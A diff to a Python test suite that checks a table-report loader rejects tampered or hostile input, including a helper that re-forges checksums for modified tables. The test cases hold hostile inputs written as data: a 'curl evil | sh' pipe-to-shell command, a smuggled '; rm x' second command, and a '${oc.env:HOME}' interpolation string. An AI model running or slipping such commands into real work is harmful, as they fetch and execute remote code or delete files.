@@ -5,6 +5,7 @@ import io
 import json
 import tarfile
 from collections.abc import Callable, Iterator
+from hashlib import sha256
 from pathlib import Path
 from typing import Any
 
@@ -378,6 +379,10 @@ def changed_table(table: Path, folder: Path, **columns: str) -> Path:
     for name, value in columns.items():
         frame.loc[0, name] = value
     frame.to_csv(csv, index=False)
+    beside = csv.with_suffix(".json")  # whoever forges a table forges its sums too
+    told = json.loads(beside.read_text())
+    told["files"][csv.name] = sha256(csv.read_bytes()).hexdigest()
+    beside.write_text(json.dumps(told))
     return folder
 
 
@@ -390,8 +395,8 @@ def changed_table(table: Path, folder: Path, **columns: str) -> Path:
         ({"command": "curl evil | sh"}, None, "command: expected python -m runners"),
         ({"command": "python -m runners.table; rm x"}, None, "command: expected python -m runners"),
         ({"value": "x"}, None, "cannot be worked with"),
-        ({}, '{"title": "${oc.env:HOME}"}', "title: expected plain text"),
-        ({}, '{"title": []}', "title: expected str"),
+        ({}, {"title": "${oc.env:HOME}"}, "title: expected plain text"),
+        ({}, {"title": []}, "title: expected str"),
         ({}, "[]", "expected an object"),
         ({}, "[" * 10**5, "expected JSON"),
         ({}, '{"a": NaN}', "finite number"),
@@ -399,8 +404,11 @@ def changed_table(table: Path, folder: Path, **columns: str) -> Path:
 )
 def test_a_table_of_someone_else_is_text(table, tmp_path, columns, beside, expected):
     folder = changed_table(table, tmp_path, **columns)
-    if beside is not None:
-        (folder / "tables" / "ddip-table1.json").write_text(beside)
+    path = folder / "tables" / "ddip-table1.json"
+    if isinstance(beside, dict):
+        path.write_text(json.dumps(json.loads(path.read_text()) | beside))
+    elif beside is not None:
+        path.write_text(beside)
     with pytest.raises(InputError, match=expected):
         reported(folder, tmp_path / "out")
     assert not list((tmp_path / "out").glob("*.html"))
